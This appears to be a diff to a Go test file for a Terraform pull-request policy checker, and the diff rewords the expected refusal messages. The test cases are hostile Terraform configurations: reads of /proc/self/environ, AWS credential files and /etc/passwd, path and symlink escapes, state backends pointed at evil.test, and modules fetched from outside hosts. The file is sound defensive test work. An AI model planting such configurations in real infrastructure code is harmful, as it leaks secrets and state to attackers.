@@ -95,9 +95,9 @@ var attacks = map[string]struct {
 	"a1: a JSON variable's validation":      {map[string]string{"v.tf.json": `{"variable":{"y":{"default":"a","validation":{"condition":"${var.y == \"b\"}","error_message":"${file(\"/proc/self/environ\")}"}}}}`}, "JSON"},
 	"a2: a branch by what lies on the disk": {fileConfig(`fileexists("${path.module}/zzz_reconcile_override.tf") ? "/proc/self/environ" : "x.txt"`), "outside"},
 	"a4: another's state, by an override":   {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {\n    path = \"/state/db.tfstate\"\n  }\n}\n"}, "override file"},
-	"b4: a committed state, by an override": {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {\n    path = \"/proc/self/cwd/evil.json\"\n  }\n}\n"}, "lies elsewhere"},
+	"b4: a committed state, by an override": {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {\n    path = \"/proc/self/cwd/evil.json\"\n  }\n}\n"}, "moves the state"},
 
-	"d1: a text that doubles": {localsConfig(doublingTexts(30) + "p = substr(local.a30, 0, 3)"), "cannot be told"},
+	"d1: a text that doubles": {localsConfig(doublingTexts(30) + "p = substr(local.a30, 0, 3)"), "not known before"},
 
 	// Both branches, always.
 	"a known condition":               {fileConfig(`true ? "x.txt" : "/proc/self/environ"`), "outside"},
@@ -112,26 +112,26 @@ var attacks = map[string]struct {
 	"a choice of the collection":      {map[string]string{"o.tf": "resource \"terraform_data\" \"o\" {\n  for_each = true ? toset([\"x.txt\"]) : toset([\"/proc/self/environ\"])\n  input    = file(each.value)\n}\n"}, "outside"},
 	"a choice in a module's argument": {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/m\"\n  path   = false ? \"/proc/self/environ\" : \"../../modules/m/m.txt\"\n}\n"}, "outside"},
 	"a module of no instance":         {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/m\"\n  count  = fileexists(\"zzz_reconcile_override.tf\") ? 1 : 0\n  path   = " + environFile + "\n}\n"}, "outside"},
-	"a filter by a function":          {fileConfig(`[for p in ["x.txt", "/proc/self/environ"] : p if fileexists(p)][0]`), "cannot be told"},
+	"a filter by a function":          {fileConfig(`[for p in ["x.txt", "/proc/self/environ"] : p if fileexists(p)][0]`), "not known before"},
 	"a condition's own function":      {outputConfig(`file("/proc/self/environ") == "" ? 1 : 2`), "outside"},
 	"a template's choice":             {map[string]string{"o.tpl": `%{ if fileexists("x") }a%{ else }${file("/proc/self/environ")}%{ endif }`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", {})\n}\n"}, "o.tpl:1:41: file() reads outside"},
 
 	// Functions that depend on the machine, or are known by name alone.
-	"index counts elements":   {fileConfig(`element(["/proc/self/environ", "x.txt"], index([1, 5, 0], 0))`), "cannot be told"},
-	"pathexpand":              {fileConfig(`trimprefix(pathexpand("~/.aws/credentials"), "~/")`), "cannot be told"},
+	"index counts elements":   {fileConfig(`element(["/proc/self/environ", "x.txt"], index([1, 5, 0], 0))`), "not known before"},
+	"pathexpand":              {fileConfig(`trimprefix(pathexpand("~/.aws/credentials"), "~/")`), "not known before"},
 	"the length of path.cwd":  {fileConfig(`["x.txt", "/proc/self/environ"][length(path.cwd) > 30 ? 1 : 0]`), "outside"},
-	"replace in path.root":    {fileConfig(`replace(path.root, ".", "/proc/self/environ")`), "cannot be told"},
-	"the text of path.module": {fileConfig(`element(["/proc/self/environ", "x.txt"], length(path.module))`), "cannot be told"},
-	"abspath, cut":            {fileConfig(`trimprefix(abspath("proc/self/environ"), "/x")`), "cannot be told"},
-	"terraform.workspace":     {fileConfig(`trimprefix("default/proc/self/environ", terraform.workspace)`), "cannot be told"},
-	"a timestamp":             {fileConfig(`substr("/proc/self/environ", 0, length(timestamp()))`), "cannot be told"},
-	"a file's content":        {fileConfig(`trimspace(file("x.txt"))`), "cannot be told"},
-	"a resource's attribute":  {map[string]string{"o.tf": "resource \"terraform_data\" \"o\" {\n  input = \"x.txt\"\n  lifecycle {\n    ignore_changes = [input]\n  }\n}\noutput \"o\" {\n  value = file(terraform_data.o.input)\n}\n"}, "cannot be told"},
-	"path.module, no slash":   {fileConfig(`"${path.module}./x.txt"`), "cannot be told"},
-	"a circle":                {localsConfig("p = local.q\nq = local.p"), "cannot be told"},
+	"replace in path.root":    {fileConfig(`replace(path.root, ".", "/proc/self/environ")`), "not known before"},
+	"the text of path.module": {fileConfig(`element(["/proc/self/environ", "x.txt"], length(path.module))`), "not known before"},
+	"abspath, cut":            {fileConfig(`trimprefix(abspath("proc/self/environ"), "/x")`), "not known before"},
+	"terraform.workspace":     {fileConfig(`trimprefix("default/proc/self/environ", terraform.workspace)`), "not known before"},
+	"a timestamp":             {fileConfig(`substr("/proc/self/environ", 0, length(timestamp()))`), "not known before"},
+	"a file's content":        {fileConfig(`trimspace(file("x.txt"))`), "not known before"},
+	"a resource's attribute":  {map[string]string{"o.tf": "resource \"terraform_data\" \"o\" {\n  input = \"x.txt\"\n  lifecycle {\n    ignore_changes = [input]\n  }\n}\noutput \"o\" {\n  value = file(terraform_data.o.input)\n}\n"}, "not known before"},
+	"path.module, no slash":   {fileConfig(`"${path.module}./x.txt"`), "not known before"},
+	"a circle":                {localsConfig("p = local.q\nq = local.p"), "not known before"},
 	"home":                    {fileConfig(`"~/.aws/credentials"`), "outside"},
 	"through /proc/self/cwd":  {fileConfig(`"/proc/self/cwd/x.txt"`), "outside"},
-	"expanded arguments":      {outputConfig(`file(["/proc/self/environ"]...)`), "cannot be told"},
+	"expanded arguments":      {outputConfig(`file(["/proc/self/environ"]...)`), "not known before"},
 	"core::":                  {outputConfig(`core::file("/proc/self/environ")`), "outside"},
 	"climbing":                {fileConfig(`"${path.module}/../../../../etc/passwd"`), "outside"},
 
@@ -139,24 +139,24 @@ var attacks = map[string]struct {
 	"fileset by braces":        {outputConfig(`fileset(path.module, "{..,x}/{..,y}/{..,z}/etc/*")`), "pattern"},
 	"fileset by joined dots":   {outputConfig(`fileset(path.module, "{.,x}{.,y}/*")`), "pattern"},
 	"fileset of escaped dots":  {outputConfig("fileset(path.module, \"\\\\.\\\\./*\")"), "pattern"},
-	"fileset of states":        {outputConfig(`fileset("..", "**/terraform.tfstate")`), "not the repository's"},
-	"fileset of .terraform":    {outputConfig(`fileset(path.module, "**")`), "not the repository's"},
+	"fileset of states":        {outputConfig(`fileset("..", "**/terraform.tfstate")`), "not part of the repository"},
+	"fileset of .terraform":    {outputConfig(`fileset(path.module, "**")`), "not part of the repository"},
 	"a template behind a link": {map[string]string{"o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"links/*\") : templatefile(f, {})]\n}\n"}, "symbolic link"},
 	"any template of a folder": {map[string]string{"policies/evil.tpl": `${file("/proc/self/environ")}`, "o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"policies/*.tpl\") : templatefile(\"${path.module}/${f}\", { name = 1 })]\n}\n"}, "evil.tpl"},
-	"below a file's name":      {map[string]string{"o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"policies/*\") : file(\"${f}/../../../../../etc/passwd\")]\n}\n"}, "cannot be told"},
+	"below a file's name":      {map[string]string{"o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"policies/*\") : file(\"${f}/../../../../../etc/passwd\")]\n}\n"}, "not known before"},
 
 	// Files that Git does not hold.
-	"a state by its link":     {fileConfig(`"../db/terraform.tfstate"`), "not the repository's"},
-	"a state of its own name": {fileConfig(`"../db/own.json"`), "not the repository's"},
-	"what we generate":        {fileConfig(`"zzz_reconcile.auto.tfvars.json"`), "not the repository's"},
-	".terraform":              {fileConfig(`".terraform/terraform.tfstate"`), "not the repository's"},
-	"a module in .terraform":  {map[string]string{".terraform/m/main.tf": "", "o.tf": "module \"m\" {\n  source = \"./.terraform/m\"\n}\n"}, "Terraform's own"},
+	"a state by its link":     {fileConfig(`"../db/terraform.tfstate"`), "not part of the repository"},
+	"a state of its own name": {fileConfig(`"../db/own.json"`), "not part of the repository"},
+	"what we generate":        {fileConfig(`"zzz_reconcile.auto.tfvars.json"`), "not part of the repository"},
+	".terraform":              {fileConfig(`".terraform/terraform.tfstate"`), "not part of the repository"},
+	"a module in .terraform":  {map[string]string{".terraform/m/main.tf": "", "o.tf": "module \"m\" {\n  source = \"./.terraform/m\"\n}\n"}, "belongs to Terraform"},
 	"a link out of the tree":  {map[string]string{"out": "-> ../../../etc/passwd", "o.tf": "output \"o\" {\n  value = file(true ? \"x.txt\" : \"out\")\n}\n"}, "leads out"},
-	"a link, and up again":    {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = \"up/../../x.tfstate\" }\n}\n"}, "out of the repository"},
+	"a link, and up again":    {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = \"up/../../x.tfstate\" }\n}\n"}, "outside the repository"},
 	"a module behind a link":  {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/link\"\n  path   = \"x.txt\"\n}\n"}, "symbolic link"},
 
 	// Templates have no names but their own.
-	"a template's own path": {map[string]string{"o.tpl": `${file("${path.module}/self/environ")}`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", jsondecode(\"{\\\"path\\\":{\\\"module\\\":\\\"/proc\\\"}}\"))\n}\n"}, "cannot be told"},
+	"a template's own path": {map[string]string{"o.tpl": `${file("${path.module}/self/environ")}`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", jsondecode(\"{\\\"path\\\":{\\\"module\\\":\\\"/proc\\\"}}\"))\n}\n"}, "not known before"},
 	"a template's argument": {map[string]string{"o.tpl": `${file(p)}`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", { p = true ? \"x.txt\" : \"/proc/self/environ\" })\n}\n"}, "outside"},
 
 	// Files that Terraform reads in another way.
@@ -165,18 +165,18 @@ var attacks = map[string]struct {
 	"our own override":               {map[string]string{"zzz_reconcile_override.tf": "locals {\n  p = \"x.txt\"\n}\n"}, "generated"},
 	"our own variables":              {map[string]string{"zzz_reconcile.auto.tfvars.json": `{"x": "x.txt"}`}, "generated"},
 	"a hidden variable file":         {map[string]string{".x.auto.tfvars": "x = \"/proc/self/environ\"\n", "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "outside"},
-	"a block of another kind":        {map[string]string{"o.tf": "store \"s\" \"x\" {}\n"}, "not looked through"},
+	"a block of another kind":        {map[string]string{"o.tf": "store \"s\" \"x\" {}\n"}, "not supported"},
 	"terraform.d":                    {map[string]string{"terraform.d/plugins/x": ""}, "terraform.d"},
 
 	// States.
 	"a state's workspace_dir": {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = \"x\", workspace_dir = \"/\" }\n}\n"}, "workspace_dir"},
-	"a state's workspace":     {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend   = \"local\"\n  workspace = \"../../..\"\n  config    = {}\n}\n"}, "workspace may lead out"},
+	"a state's workspace":     {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend   = \"local\"\n  workspace = \"../../..\"\n  config    = {}\n}\n"}, "workspace is not allowed"},
 	"a state read in a check": {map[string]string{"o.tf": "check \"c\" {\n  data \"terraform_remote_state\" \"o\" {\n    backend = \"local\"\n    config  = { path = \"/etc/x\" }\n  }\n}\n"}, "outside"},
 	"a choice of states":      {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = true ? { path = \"../db/terraform.tfstate\" } : { path = \"/etc/x\" }\n}\n"}, "outside"},
-	"an unknown state":        {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = terraform_data.a.output }\n}\n"}, "cannot be told"},
+	"an unknown state":        {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = terraform_data.a.output }\n}\n"}, "not known before"},
 	"a state by an endpoint":  {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"s3\"\n  config  = { bucket = \"b\", key = \"k\", endpoints = { s3 = \"https://evil.test\" } }\n}\n"}, "endpoints"},
-	"another local path":      {map[string]string{"b.tf": "terraform {\n  backend \"local\" {\n    path = \"../db/terraform.tfstate\"\n  }\n}\n"}, "lies elsewhere"},
-	"from a file to S3":       {map[string]string{"b.tf": "terraform {\n  backend \"s3\" {\n    bucket = \"evil\"\n    key    = \"k\"\n  }\n}\n"}, "lies elsewhere"},
+	"another local path":      {map[string]string{"b.tf": "terraform {\n  backend \"local\" {\n    path = \"../db/terraform.tfstate\"\n  }\n}\n"}, "moves the state"},
+	"from a file to S3":       {map[string]string{"b.tf": "terraform {\n  backend \"s3\" {\n    bucket = \"evil\"\n    key    = \"k\"\n  }\n}\n"}, "moves the state"},
 	"an empty local override": {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {}\n}\n"}, "override file"},
 
 	// Providers.
@@ -202,11 +202,11 @@ var attacks = map[string]struct {
 	"an object, perhaps":              {map[string]string{"o.tf": "data \"aws_s3_object\" \"c\" {\n  download_body = var.x == \"b\"\n}\n"}, "aws_s3_object"},
 	"any ephemeral of AWS":            {map[string]string{"o.tf": "ephemeral \"aws_new_credentials\" \"c\" {}\n"}, "aws_new_credentials"},
 	"a data source in a check":        {map[string]string{"o.tf": "check \"c\" {\n  data \"aws_kms_secrets\" \"c\" {}\n}\n"}, "aws_kms_secrets"},
-	"a file that a data source reads": {map[string]string{"o.tf": "data \"aws_x\" \"c\" {\n  filename = terraform_data.a.output\n}\n"}, "filename reads what cannot be told"},
+	"a file that a data source reads": {map[string]string{"o.tf": "data \"aws_x\" \"c\" {\n  filename = terraform_data.a.output\n}\n"}, "filename reads a path that is not known"},
 
 	// Modules.
-	"a module by S3":       {map[string]string{"o.tf": "module \"m\" {\n  source = \"s3::https://s3.amazonaws.com/evil/m.zip\"\n}\n"}, "comes from elsewhere"},
-	"a module by a choice": {map[string]string{"o.tf": "module \"m\" {\n  source = true ? \"../../modules/m\" : \"evil.test/a/b/c\"\n  path   = \"x.txt\"\n}\n"}, "cannot be told"},
+	"a module by S3":       {map[string]string{"o.tf": "module \"m\" {\n  source = \"s3::https://s3.amazonaws.com/evil/m.zip\"\n}\n"}, "is not allowed"},
+	"a module by a choice": {map[string]string{"o.tf": "module \"m\" {\n  source = true ? \"../../modules/m\" : \"evil.test/a/b/c\"\n  path   = \"x.txt\"\n}\n"}, "not known before"},
 }
 
 // Each change of a pull request that must not be planned is refused by the
@@ -278,12 +278,12 @@ func TestRefuseBackends(t *testing.T) {
 	}{
 		"as it is":           {"s3", s3("    key = \"k\"\n"), ""},
 		"a lock":             {"s3", s3("    key = \"k\"\n    use_lockfile = true\n"), ""},
-		"another key":        {"s3", s3("    key = \"other\"\n"), "lies elsewhere"},
-		"a key by a choice":  {"s3", s3("    key = true ? \"k\" : \"other\"\n"), "cannot be evaluated"},
+		"another key":        {"s3", s3("    key = \"other\"\n"), "moves the state"},
+		"a key by a choice":  {"s3", s3("    key = true ? \"k\" : \"other\"\n"), "not known before"},
 		"an endpoint":        {"s3", s3("    key = \"k\"\n    endpoints = { s3 = \"https://evil.test\" }\n"), "endpoints"},
 		"a role":             {"s3", s3("    key = \"k\"\n    assume_role = { role_arn = \"arn:aws:iam::666666666666:role/evil\" }\n"), "assume_role"},
 		"a file of settings": {"s3", s3("    key = \"k\"\n    shared_config_files = [\"evil\"]\n"), "shared_config_files"},
-		"none any more":      {"s3", map[string]string{"main.tf": ""}, "lies elsewhere"},
+		"none any more":      {"s3", map[string]string{"main.tf": ""}, "moves the state"},
 		"in the cloud":       {"s3", map[string]string{"main.tf": "terraform {\n  cloud {}\n}\n"}, "cloud"},
 		"a new workspace":    {"new", map[string]string{"main.tf": "terraform {\n  backend \"http\" {\n    address = \"https://evil.test\"\n  }\n}\n"}, ""},
 	} {
@@ -298,7 +298,7 @@ func TestRefuseBackends(t *testing.T) {
 		t.Errorf("the same backend of another type: %q", got)
 	}
 	http["env/a/main.tf"] = strings.Replace(http["env/a/main.tf"], "\n  }", "\n    lock_address = \"https://evil.test\"\n  }", 1)
-	if got := CheckPolicy(newTree(http), Terraform, p, defaultPolicy()); len(got) != 1 || !strings.Contains(got[0], "not as it is at the tip") {
+	if got := CheckPolicy(newTree(http), Terraform, p, defaultPolicy()); len(got) != 1 || !strings.Contains(got[0], "it changes the settings of backend") {
 		t.Errorf("another lock: %q", got)
 	}
 }
@@ -311,13 +311,13 @@ func TestRefuseJSON(t *testing.T) {
 		`{"variable":{"y":{"validation":{"condition":"${var.y == 1}","error_message":"${file(\"/proc/self/environ\")}"}}}}`: "outside",
 		`{"resource":{"terraform_data":{"o":{"lifecycle":{"precondition":{"condition":"${file(\"/etc/x\") == 1}"}}}}}}`:     "outside",
 		`{"check":{"c":{"assert":[{"condition":"${file(\"/etc/x\") == 1}"}]}}}`:                                             "outside",
-		`{"locals":{"p":"/etc/x","p":"x.txt"}}`:                                                                             "p is given twice",
-		`{"locals":{"p":"/etc/x"},"locals":{"p":"x.txt"}}`:                                                                  "locals is given twice",
+		`{"locals":{"p":"/etc/x","p":"x.txt"}}`:                                                                             "duplicate member p",
+		`{"locals":{"p":"/etc/x"},"locals":{"p":"x.txt"}}`:                                                                  "duplicate member locals",
 		`{"provider":{"aws":[{"alias":"o","assume_role":[{"role_arn":"evil"}]}]}}`:                                          "assume_role",
 		`{"provider":{"aws":{"alias":"o","dynamic":{"endpoints":{"content":{}}}}}}`:                                         "dynamic",
-		`{"terraform":{"backend":{"local":{"path":"../db/terraform.tfstate"}}}}`:                                            "lies elsewhere",
+		`{"terraform":{"backend":{"local":{"path":"../db/terraform.tfstate"}}}}`:                                            "moves the state",
 		`{"import":[{"to":"aws_ssm_parameter.p","id":"x"}]}`:                                                                "import of",
-		`{"store":{"s":{}}}`: "not looked through",
+		`{"store":{"s":{}}}`: "not supported",
 		`{"locals":{"//":"one","//":"two","p":"${path.module}/x.txt"},"output":{"o":{"value":"${file(local.p)}"}}}`: "",
 	} {
 		got := strings.Join(violationsOf(t, "app", map[string]string{"o.tf.json": text}, defaultPolicy("tf.json")), "\n")
